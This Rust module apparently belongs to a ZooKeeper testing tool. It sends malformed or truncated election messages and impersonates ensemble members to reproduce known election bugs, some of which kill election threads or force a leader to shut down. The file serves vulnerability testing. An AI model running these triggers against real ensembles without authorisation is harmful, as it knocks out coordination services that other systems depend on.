//! `zkfle repro`: zkfle as the misbehaving peer of a known ZooKeeper election bug, against an
//! unmodified server, with a verdict from what the server did afterwards as seen on the wire.
//!
//! Each repro probes the target first (it must answer, else the verdict is `inconclusive`),
//! sends its trigger over the election port, then watches: an election port that refuses or
//! no longer answers a probe, a server that dials a wildcard address, the bytes of its answers.
//! A verdict is `vulnerable` only on such an observation, `not_vulnerable` only when the
//! trigger was delivered and the server visibly behaved, and `inconclusive` otherwise (with
//! the reason in the evidence).
//!
//! The triggers use the codec's constructors (`src/wire`); the sockets are blocking with
//! time-outs, so no repro hangs. A repro that may break the target is marked destructive and
//! says what it breaks: the command line runs it only with `--destructive`.

pub mod doctor;
pub mod matrix;
mod member;

use std::io::Read;
use std::net::{IpAddr, SocketAddr, TcpListener, ToSocketAddrs};
use std::time::{Duration, Instant};

use crate::net::deadline::{Deadline, timed_out};
use crate::net::probe::{self, Answer, ProbeError, ProbeOptions};
use crate::wire::{
    ElectionAddress, FrameReader, InitialMessage, Notification, ProtocolVersion, ServerState,
    encode_frame,
};

/// The sid the repros announce as a non-member: above any real one, and not the probe's (so
/// that the server's per-sid last message for probes is not the repro's).
pub const REPRO_SID: i64 = probe::PROBE_SID - 1;

/// What a repro concluded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    Vulnerable,
    NotVulnerable,
    Inconclusive,
}

impl Verdict {
    /// The name printed and in JSON.
    pub fn name(self) -> &'static str {
        match self {
            Verdict::Vulnerable => "vulnerable",
            Verdict::NotVulnerable => "not_vulnerable",
            Verdict::Inconclusive => "inconclusive",
        }
    }
}

/// One known bug zkfle can trigger.
#[derive(Debug, Clone, Copy)]
pub struct Repro {
    /// The name on the command line (a JIRA id where there is one).
    pub name: &'static str,
    /// What zkfle sends.
    pub trigger: &'static str,
    /// What a vulnerable server does.
    pub symptom: &'static str,
    /// What it breaks on a vulnerable target; `Some` makes the repro destructive.
    pub breaks: Option<&'static str>,
    run: fn(&Target, &ReproOptions, &Answer, &mut Vec<String>) -> Verdict,
}

impl Repro {
    /// Whether it needs `--destructive`.
    pub fn destructive(&self) -> bool {
        self.breaks.is_some()
    }
}

/// Every repro, in the order `--list` shows them.
pub const REPROS: &[Repro] = &[
    Repro {
        name: "port-out-of-range",
        trigger: "an initial message (V1) whose address is host:70000, from a non-member sid",
        symptom: "3.5+: `new InetSocketAddress` throws IllegalArgumentException, which nothing catches; the election listener thread exits while the process keeps running",
        breaks: Some(
            "the target's election listener, for good (until the process restarts): it can no longer take part in any election",
        ),
        run: port_out_of_range,
    },
    Repro {
        name: "bad-config-server-id",
        trigger: "a notification (version 2) whose config has a `server.x=` line, from a non-member sid",
        symptom: "the config parse throws NumberFormatException, which nothing catches; the election's receiver thread dies and the server answers no notification again",
        breaks: Some(
            "the target's election receiver thread, for good (until the process restarts): it answers and counts no vote",
        ),
        run: bad_config_server_id,
    },
    Repro {
        name: "ZOOKEEPER-3769",
        trigger: "truncated notifications (30, 38 and 42 bytes), from a non-member sid (3.5+ parse every sender's); against 3.4, from --peer-sid (3.4 parses only voters')",
        symptom: "BufferUnderflowException kills the election's receiver thread (fixed in 3.5.8/3.6.1)",
        breaks: Some(
            "the target's election receiver thread, for good; with --peer-sid, that member's election connection to the target is replaced by zkfle's until it reconnects",
        ),
        run: zookeeper_3769,
    },
    Repro {
        name: "ZOOKEEPER-2164",
        trigger: "an initial message from a sid below the target's advertising 0.0.0.0:PORT, where zkfle listens on this host",
        symptom: "the target drops the connection (lower sid) and dials back the wildcard address instead of ignoring it",
        breaks: None,
        run: zookeeper_2164,
    },
    Repro {
        name: "ZOOKEEPER-4787",
        trigger: "an initial message with a non-ASCII byte in its port, and a notification whose config carries a non-ASCII comment, from a non-member sid; then the bytes of the target's own config",
        symptom: "wire text encoded or decoded in the JVM's default charset instead of UTF-8: peers with non-ASCII names cannot join (fixed in 3.9.4)",
        breaks: None,
        run: zookeeper_4787,
    },
    Repro {
        name: "ZOOKEEPER-3109",
        trigger: "as member --peer-sid (whose server is down), votes a LOOKING target into LEADING, never connects to its quorum port, then goes LOOKING again",
        symptom: "the leader waits initLimit x tickTime for followers that cannot come instead of quitting when its voter goes LOOKING (the fix needs zookeeper.leader.maxTimeToWaitForEpoch, off by default)",
        breaks: Some(
            "the target's availability: it leads without followers for up to initLimit x tickTime before it elects again; zkfle listens on the member's election address meanwhile",
        ),
        run: member::zookeeper_3109,
    },
    Repro {
        name: "ZOOKEEPER-4685",
        trigger: "as member --peer-sid (whose server is down), votes a LOOKING target into LEADING, follows it on its quorum port claiming its last epoch's first zxid, and ACKs the first PROPOSAL of the DIFF before NEWLEADER",
        symptom: "the leader takes the PROPOSAL's ACK for the NEWLEADER ACK (\"is from a different epoch\"), misses its quorum of NEWLEADER ACKs and shuts down",
        breaks: Some(
            "the target's leadership: a vulnerable leader shuts down and elects again; zkfle listens on the member's election address meanwhile",
        ),
        run: member::zookeeper_4685,
    },
    Repro {
        name: "ZOOKEEPER-2201",
        trigger: "as member --peer-sid (whose server is down), follows the leader of the target's ensemble on its quorum port, then stops reading that socket (keeping it open) while it writes 16 MiB of setData (512 KiB values) through the leader's client port",
        symptom: "a 3.4.6-era leader blocks on the full socket: writes and its pings to the other followers stall (near deadlock, fixed in 3.4.7/3.5.1); a fixed leader keeps committing and drops the stalled follower after syncLimit x tickTime",
        breaks: Some(
            "on a vulnerable (3.4.6-era) leader, the ensemble's writes while zkfle's socket stays full; on a fixed one only zkfle's own follower session, which the leader drops; either way 16 MiB of writes to the znode /zkfle-2201 (left in place)",
        ),
        run: member::zookeeper_2201,
    },
];

/// Finds a repro by name, ignoring case.
pub fn find(name: &str) -> Option<&'static Repro> {
    REPROS.iter().find(|r| r.name.eq_ignore_ascii_case(name))
}

/// How to run a repro.
#[derive(Debug, Clone)]
pub struct ReproOptions {
    /// Per probe and per read.
    pub timeout: Duration,
    /// The member zkfle stands in for: for ZOOKEEPER-3769 against 3.4 a sid above the
    /// target's; for ZOOKEEPER-3109 a member whose server is down.
    pub peer_sid: Option<i64>,
    /// The ensemble's members, when the target's answers carry no config (3.4).
    pub config: Option<crate::wire::QuorumConfig>,
    /// A client address for the repros that write (ZOOKEEPER-2201), when the config has none.
    pub client: Option<SocketAddr>,
    /// Quorum TLS, when the ensemble speaks it (`sslQuorum`): for the election connections
    /// zkfle opens and accepts.
    pub tls: Option<std::sync::Arc<crate::net::QuorumTls>>,
    /// Quorum SASL, when the ensemble requires it: for probes and the member zkfle stands in
    /// for (the repros' own raw connections do not authenticate).
    pub sasl: Option<std::sync::Arc<crate::sasl::QuorumSasl>>,
}

impl Default for ReproOptions {
    fn default() -> Self {
        ReproOptions {
            timeout: Duration::from_secs(3),
            peer_sid: None,
            config: None,
            client: None,
            tls: None,
            sasl: None,
        }
    }
}

/// The outcome: the JSON contract of `zkfle repro --format json`.
#[derive(Debug, Clone)]
pub struct Report {
    pub name: String,
    pub target: String,
    pub verdict: Verdict,
    pub evidence: Vec<String>,
    /// What the wire shows of the version (`3.4`, `3.5+`), when the target answered.
    pub server_version: Option<String>,
}

impl Report {}

/// The server under test.
#[derive(Debug, Clone)]
pub struct Target {
    /// As the user wrote it.
    pub text: String,
    pub addr: SocketAddr,
}

impl Target {
    /// Resolves `HOST:PORT`.
    pub fn resolve(text: &str) -> Result<Target, String> {
        let addr = text
            .to_socket_addrs()
            .map_err(|e| format!("cannot resolve {text}: {e}"))?
            .next()
            .ok_or_else(|| format!("cannot resolve {text}"))?;
        Ok(Target {
            text: text.to_string(),
            addr,
        })
    }

    /// Whether a server at this address runs on this host (so that its dials to a wildcard
    /// address reach zkfle's listeners).
    fn is_local(&self) -> bool {
        let ip = self.addr.ip();
        ip.is_loopback() || TcpListener::bind(SocketAddr::new(ip, 0)).is_ok()
    }
}

/// Runs `repro` against `target`. Never panics on anything the target does.
pub fn run(repro: &Repro, target: &Target, opts: &ReproOptions) -> Report {
    let mut evidence = Vec::new();
    let mut report = Report {
        name: repro.name.to_string(),
        target: target.text.clone(),
        verdict: Verdict::Inconclusive,
        evidence: Vec::new(),
        server_version: None,
    };
    let before = match probe::probe(&target.text, &probe_options(opts)) {
        Ok(a) => a,
        Err(e) => {
            evidence.push(format!(
                "before: the target did not answer a probe ({e}); nothing was sent"
            ));
            report.evidence = evidence;
            return report;
        }
    };
    report.server_version = Some(probe::version_hint(&before).to_string());
    evidence.push(format!(
        "before: the election port answered a probe: {} leader={} round={:#x}{}",
        before.state.name(),
        before.leader,
        before.election_epoch,
        match before.config_version {
            Some(v) => format!(" config={v:#x}"),
            None => " (no config: a 3.4 server)".into(),
        }
    ));
    report.verdict = (repro.run)(target, opts, &before, &mut evidence);
    report.evidence = evidence;
    report
}

fn probe_options(opts: &ReproOptions) -> ProbeOptions {
    ProbeOptions {
        timeout: opts.timeout,
        tls: opts.tls.clone(),
        sasl: opts.sasl.clone(),
        ..ProbeOptions::default()
    }
}

fn is_34(before: &Answer) -> bool {
    probe::version_hint(before) == "3.4"
}

/// Probes the target up to three times, 500 ms apart (a JVM under load may be slow once).
/// `Ok` with the first answer, `Err` with every failure.
fn still_answers(target: &Target, opts: &ReproOptions) -> Result<Answer, Vec<ProbeError>> {
    let mut errors = Vec::new();
    for i in 0..3 {
        if i > 0 {
            std::thread::sleep(Duration::from_millis(500));
        }
        match probe::probe(&target.text, &probe_options(opts)) {
            Ok(a) => return Ok(a),
            Err(e) => errors.push(e),
        }
    }
    Err(errors)
}

/// The common ending of the repros that kill a thread: a verdict from whether the election
/// port still answers.
fn verdict_from_probes(target: &Target, opts: &ReproOptions, ev: &mut Vec<String>) -> Verdict {
    // Let the server act on what it was sent.
    std::thread::sleep(Duration::from_millis(500));
    let t0 = Instant::now();
    match still_answers(target, opts) {
        Ok(a) => {
            ev.push(format!(
                "after: the election port still answers a probe: {} leader={} round={:#x}",
                a.state.name(),
                a.leader,
                a.election_epoch
            ));
            Verdict::NotVulnerable
        }
        Err(errors) => {
            let list: Vec<String> = errors.iter().map(|e| e.to_string()).collect();
            ev.push(format!(
                "after: the election port no longer answers: {} probes over {:.1} s failed ({})",
                errors.len(),
                t0.elapsed().as_secs_f64(),
                list.join("; ")
            ));
            Verdict::Vulnerable
        }
    }
}

/// A blocking election connection to the target that we initiated.
struct Conn {
    r: FrameReader<probe::TimedStream>,
}

impl Conn {
    fn open(target: &Target, opts: &ReproOptions) -> Result<Conn, String> {
        let timeout = opts.timeout;
        let s = probe::connect_election(&target.text, timeout, opts.tls.as_deref())
            .map_err(|e| format!("connecting: {e}"))?;
        Ok(Conn {
            r: probe::reader(s, Deadline::after(timeout, "no frame")),
        })
    }

    fn local(&self) -> ElectionAddress {
        ElectionAddress::from_socket_addr(
            self.r
                .get_ref()
                .stream
                .tcp()
                .local_addr()
                .unwrap_or_else(|_| SocketAddr::from(([127, 0, 0, 1], 0))),
        )
    }

    fn send(&mut self, bytes: &[u8]) -> Result<(), String> {
        self.r
            .get_mut()
            .send(bytes)
            .map_err(|e| format!("sending: {e}"))
    }

    /// Sends a well-formed initial message and, when the ensemble requires quorum SASL,
    /// authenticates (as a Java learner does before its first notification).
    fn send_initial(&mut self, bytes: &[u8], opts: &ReproOptions) -> Result<(), String> {
        self.send(bytes)?;
        if let Some(sasl) = opts.sasl.as_deref() {
            crate::net::sasl::authenticate_learner_blocking(self.r.get_mut(), sasl)
                .map_err(|e| format!("SASL authentication: {e}"))?;
        }
        Ok(())
    }

    fn send_frame(&mut self, payload: &[u8]) -> Result<(), String> {
        let f = encode_frame(payload).map_err(|e| e.to_string())?;
        self.send(&f)
    }

    /// The next frame, within `timeout` from now.
    fn read_frame(&mut self, timeout: Duration) -> Result<Vec<u8>, ProbeError> {
        self.r.get_mut().deadline = Deadline::after(timeout, "no frame");
        probe::read_frame(&mut self.r)
    }

    /// Whether the server closed the connection within `wait` (reads and drops what comes).
    fn closed_within(&mut self, wait: Duration) -> bool {
        let deadline = Deadline::after(wait, "no close");
        let mut buf = [0u8; 4096];
        loop {
            let s = &mut self.r.get_mut().stream;
            if deadline.arm_read(s.tcp()).is_err() {
                return false;
            }
            match s.read(&mut buf) {
                Ok(0) => return true,
                Ok(_) => {}
                Err(e) if timed_out(&e) => return false,
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
                Err(_) => return true,
            }
        }
    }
}

/// A LOOKING notification for nobody (a non-voter's), version 2, carrying `config`.
fn notification_with_config(config: &[u8]) -> Notification {
    Notification::current(
        ServerState::Looking,
        i64::MIN,
        i64::MIN,
        0,
        i64::MIN,
        config,
    )
}

fn port_out_of_range(
    target: &Target,
    opts: &ReproOptions,
    before: &Answer,
    ev: &mut Vec<String>,
) -> Verdict {
    let mut c = match Conn::open(target, opts) {
        Ok(c) => c,
        Err(e) => {
            ev.push(format!("trigger: {e}"));
            return Verdict::Inconclusive;
        }
    };
    let text = format!("{}:70000", c.local().host);
    let m = InitialMessage::with_address_text(ProtocolVersion::V1, REPRO_SID, &text);
    let bytes = m.encode().expect("a short address text encodes");
    if let Err(e) = c.send(&bytes) {
        ev.push(format!("trigger: {e}"));
        return Verdict::Inconclusive;
    }
    let closed = c.closed_within(Duration::from_secs(1));
    ev.push(format!(
        "trigger: sent a V1 initial message from sid {REPRO_SID} with address {text:?}; the target {} our connection",
        if closed {
            "closed"
        } else {
            "kept (for 1 s)"
        }
    ));
    if is_34(before) {
        ev.push("3.4 servers read no address from the initial message".into());
    }
    verdict_from_probes(target, opts, ev)
}

fn bad_config_server_id(
    target: &Target,
    opts: &ReproOptions,
    before: &Answer,
    ev: &mut Vec<String>,
) -> Verdict {
    let mut c = match Conn::open(target, opts) {
        Ok(c) => c,
        Err(e) => {
            ev.push(format!("trigger: {e}"));
            return Verdict::Inconclusive;
        }
    };
    let host = c.local().host;
    let config = format!("server.x={host}:2888:3888:participant\nversion=0");
    let n = notification_with_config(config.as_bytes());
    let initial = InitialMessage::versioned(ProtocolVersion::V1, REPRO_SID, vec![c.local()]);
    let sent = c
        .send_initial(&initial.encode().expect("a local address encodes"), opts)
        .and_then(|()| c.send_frame(&n.encode().expect("a notification encodes")));
    if let Err(e) = sent {
        ev.push(format!("trigger: {e}"));
        return Verdict::Inconclusive;
    }
    // A healthy server answers a non-voter's notification (after a stale re-send, maybe).
    let answered = (0..2).any(|_| c.read_frame(opts.timeout).is_ok());
    ev.push(format!(
        "trigger: sent a notification (version 2, {} bytes) from sid {REPRO_SID} with config {config:?}; {}",
        n.size(),
        if answered {
            "the target answered it"
        } else {
            "the target did not answer it"
        }
    ));
    if is_34(before) {
        ev.push("3.4 servers read no config from notifications".into());
    }
    verdict_from_probes(target, opts, ev)
}

fn zookeeper_3769(
    target: &Target,
    opts: &ReproOptions,
    before: &Answer,
    ev: &mut Vec<String>,
) -> Verdict {
    let legacy = is_34(before);
    let sid = if legacy {
        match opts.peer_sid {
            Some(s) => s,
            None => {
                ev.push("3.4 servers parse notifications only from voters and answer others unread: run again with --peer-sid N, a member's sid above the target's (zkfle takes over that member's connection to the target)".into());
                return Verdict::Inconclusive;
            }
        }
    } else {
        // 3.5+ parse every sender's notifications: no need to take over a member's connection.
        REPRO_SID
    };
    let mut c = match Conn::open(target, opts) {
        Ok(c) => c,
        Err(e) => {
            ev.push(format!("trigger: {e}"));
            return Verdict::Inconclusive;
        }
    };
    let initial = if legacy {
        InitialMessage::legacy(sid)
    } else {
        InitialMessage::versioned(ProtocolVersion::V1, sid, vec![c.local()])
    };
    let whole = notification_with_config(b"version=0");
    let mut sent = c.send_initial(&initial.encode().expect("an initial message encodes"), opts);
    // 30: cut inside the peer epoch; 38: inside the version; 42: inside the config length.
    let sizes = [30usize, 38, 42];
    for len in sizes {
        let payload = whole.encode_truncated(len).expect("a notification encodes");
        sent = sent.and_then(|()| c.send_frame(&payload));
    }
    if let Err(e) = sent {
        ev.push(format!("trigger: {e}"));
        return Verdict::Inconclusive;
    }
    let closed = c.closed_within(Duration::from_secs(1));
    ev.push(format!(
        "trigger: sent truncated notifications of {} bytes from sid {sid}{}; the target {} our connection",
        sizes
            .iter()
            .map(|n| n.to_string())
            .collect::<Vec<_>>()
            .join(", "),
        if legacy { " (legacy initial message)" } else { "" },
        if closed {
            "closed"
        } else {
            "kept (for 1 s)"
        }
    ));
    verdict_from_probes(target, opts, ev)
}

/// The target's sid, when the config it carries names its address.
fn target_sid(target: &Target, before: &Answer) -> Option<i64> {
    let config = before.config.as_ref()?;
    config
        .servers()
        .find(|s| {
            s.addresses
                .iter()
                .any(|a| a.election().socket_addr() == Some(target.addr))
        })
        .map(|s| s.id)
}

fn zookeeper_2164(
    target: &Target,
    opts: &ReproOptions,
    before: &Answer,
    ev: &mut Vec<String>,
) -> Verdict {
    if !target.is_local() {
        ev.push("the target is not on this host: a server that dials 0.0.0.0 reaches itself, not zkfle, so the dial cannot be seen from here; run zkfle on the server's host".into());
        return Verdict::Inconclusive;
    }
    // A non-member sid below the target's: the target answers it by dialing back.
    let sid = match target_sid(target, before) {
        Some(own) => {
            let members: Vec<i64> = before
                .config
                .as_ref()
                .map(|c| c.servers().map(|s| s.id).collect())
                .unwrap_or_default();
            match (0..own).rev().find(|s| !members.contains(s)) {
                Some(s) => s,
                None => {
                    ev.push(format!("every sid below the target's ({own}) is a member's: no non-member sid can be lower"));
                    return Verdict::Inconclusive;
                }
            }
        }
        // 3.4 (no config) or an address the config spells otherwise: sid 0, below any usual one.
        None => 0,
    };
    let listener = match TcpListener::bind(SocketAddr::new(IpAddr::from([127, 0, 0, 1]), 0)) {
        Ok(l) => l,
        Err(e) => {
            ev.push(format!("cannot listen on 127.0.0.1: {e}"));
            return Verdict::Inconclusive;
        }
    };
    let port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
    let _ = listener.set_nonblocking(true);
    let mut c = match Conn::open(target, opts) {
        Ok(c) => c,
        Err(e) => {
            ev.push(format!("trigger: {e}"));
            return Verdict::Inconclusive;
        }
    };
    let text = format!("0.0.0.0:{port}");
    let m = InitialMessage::with_address_text(ProtocolVersion::V1, sid, &text);
    if let Err(e) = c.send(&m.encode().expect("a short address encodes")) {
        ev.push(format!("trigger: {e}"));
        return Verdict::Inconclusive;
    }
    let closed = c.closed_within(Duration::from_secs(1));
    ev.push(format!(
        "trigger: sent a V1 initial message from sid {sid} (below the target's) advertising {text:?}; the target {} our connection",
        if closed {
            "closed"
        } else {
            "kept (for 1 s)"
        }
    ));
    let wait = Duration::from_secs(3);
    let end = Instant::now() + wait;
    while Instant::now() < end {
        match listener.accept() {
            Ok((mut s, from)) => {
                let _ = s.set_read_timeout(Some(Duration::from_secs(1)));
                let mut head = [0u8; 16];
                let said = match s.read_exact(&mut head) {
                    Ok(()) => InitialMessage::partial_sid(&head)
                        .map(|sid| format!(", announcing sid {sid}"))
                        .unwrap_or_default(),
                    Err(_) => String::new(),
                };
                ev.push(format!(
                    "after: the target dialed the wildcard address {text} (reached zkfle's listener from {from}{said})"
                ));
                return Verdict::Vulnerable;
            }
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                std::thread::sleep(Duration::from_millis(20));
            }
            Err(e) => {
                ev.push(format!("listening: {e}"));
                return Verdict::Inconclusive;
            }
        }
    }
    if !closed {
        ev.push("the target kept the connection of a lower sid: it did not take it as a peer to dial back".into());
        return Verdict::Inconclusive;
    }
    ev.push(format!(
        "after: no connection to {text} within {} s: the target did not dial the wildcard address{}",
        wait.as_secs(),
        if is_34(before) {
            " (3.4 servers read no address from the initial message)"
        } else {
            ""
        }
    ));
    Verdict::NotVulnerable
}

fn zookeeper_4787(
    target: &Target,
    opts: &ReproOptions,
    before: &Answer,
    ev: &mut Vec<String>,
) -> Verdict {
    // 1. A non-ASCII byte in the initial message (in the port, so that no name is resolved).
    match Conn::open(target, opts) {
        Ok(mut c) => {
            let text = format!("{}:38\u{e9}8", c.local().host);
            let m = InitialMessage::with_address_text(ProtocolVersion::V1, REPRO_SID, &text);
            let sent = c.send(&m.encode().expect("a short address encodes"));
            let closed = sent.is_ok() && c.closed_within(Duration::from_secs(1));
            ev.push(format!(
                "trigger: sent a V1 initial message with address {text:?} (UTF-8); the target {}",
                if closed {
                    "closed the connection"
                } else {
                    "kept the connection (for 1 s)"
                }
            ));
        }
        Err(e) => {
            ev.push(format!("trigger: {e}"));
            return Verdict::Inconclusive;
        }
    }
    // 2. A notification whose config carries a non-ASCII comment (version 0: never adopted).
    let mut c = match Conn::open(target, opts) {
        Ok(c) => c,
        Err(e) => {
            ev.push(format!("trigger: {e}"));
            return Verdict::Inconclusive;
        }
    };
    // The target's own members, when its answer names them: a config that lists no
    // participant kills the receiver thread of a server with standaloneEnabled=false
    // ("number of participants should be >0", found in Docker: docs/repro.md), which is not
    // this bug.
    let members: String = before
        .config
        .as_ref()
        .map(|c| {
            c.to_string()
                .lines()
                .filter(|l| l.trim_start().starts_with("server."))
                .map(|l| format!("{l}\n"))
                .collect()
        })
        .unwrap_or_default();
    let config = format!("{members}#zkfle repro ZOOKEEPER-4787 \u{e9}\u{fc}\u{4e2d}\nversion=0\n");
    let initial = InitialMessage::versioned(ProtocolVersion::V1, REPRO_SID, vec![c.local()]);
    let n = notification_with_config(config.as_bytes());
    let sent = c
        .send(&initial.encode().expect("a local address encodes"))
        .and_then(|()| c.send_frame(&n.encode().expect("a notification encodes")));
    if let Err(e) = sent {
        ev.push(format!("trigger: {e}"));
        return Verdict::Inconclusive;
    }
    // Its answers carry its own config as it encodes it.
    let mut own_config: Option<Vec<u8>> = None;
    for _ in 0..2 {
        match c.read_frame(opts.timeout) {
            Ok(p) => {
                if let Ok(n) = Notification::decode(&p) {
                    own_config = n.config.clone();
                }
            }
            Err(_) => break,
        }
    }
    ev.push(format!(
        "trigger: sent a notification (version 2) whose config has the comment line {:?}",
        config.lines().find(|l| l.starts_with('#')).unwrap_or("")
    ));
    let verdict = verdict_from_probes(target, opts, ev);
    if verdict == Verdict::Vulnerable {
        return verdict;
    }
    match own_config {
        None if is_34(before) => {
            ev.push("3.4 servers carry no config and read none from a non-member: there is no text on the wire whose charset could show".into());
            Verdict::NotVulnerable
        }
        None => {
            ev.push("the target's answer carried no config to look at".into());
            Verdict::Inconclusive
        }
        Some(bytes) => match std::str::from_utf8(&bytes) {
            Err(e) => {
                ev.push(format!(
                    "the target's own config is not UTF-8 on the wire (invalid byte at {}): it encodes in another charset, and UTF-8 peers misread it",
                    e.valid_up_to()
                ));
                Verdict::Vulnerable
            }
            Ok(text) if text.is_ascii() => {
                ev.push("the target's own config is ASCII: which charset it writes is not visible on the wire (the bug needs non-ASCII host names); it survived non-ASCII input".into());
                Verdict::Inconclusive
            }
            Ok(_) => {
                ev.push(
                    "the target's own config has non-ASCII text and it is UTF-8 on the wire".into(),
                );
                Verdict::NotVulnerable
            }
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_unique_and_found_ignoring_case() {
        for r in REPROS {
            assert_eq!(REPROS.iter().filter(|o| o.name == r.name).count(), 1);
            assert_eq!(find(&r.name.to_lowercase()).unwrap().name, r.name);
        }
        assert!(find("ZOOKEEPER-0").is_none());
    }

    #[test]
    fn a_dead_target_is_inconclusive_and_nothing_is_sent() {
        let refused = TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .to_string();
        let t = Target::resolve(&refused).unwrap();
        let r = run(
            find("port-out-of-range").unwrap(),
            &t,
            &ReproOptions {
                timeout: Duration::from_millis(500),
                ..ReproOptions::default()
            },
        );
        assert_eq!(r.verdict, Verdict::Inconclusive);
        assert!(r.server_version.is_none());
        assert!(
            r.evidence[0].contains("nothing was sent"),
            "{:?}",
            r.evidence
        );
        assert_eq!(r.to_json()["verdict"], "inconclusive");
    }
}
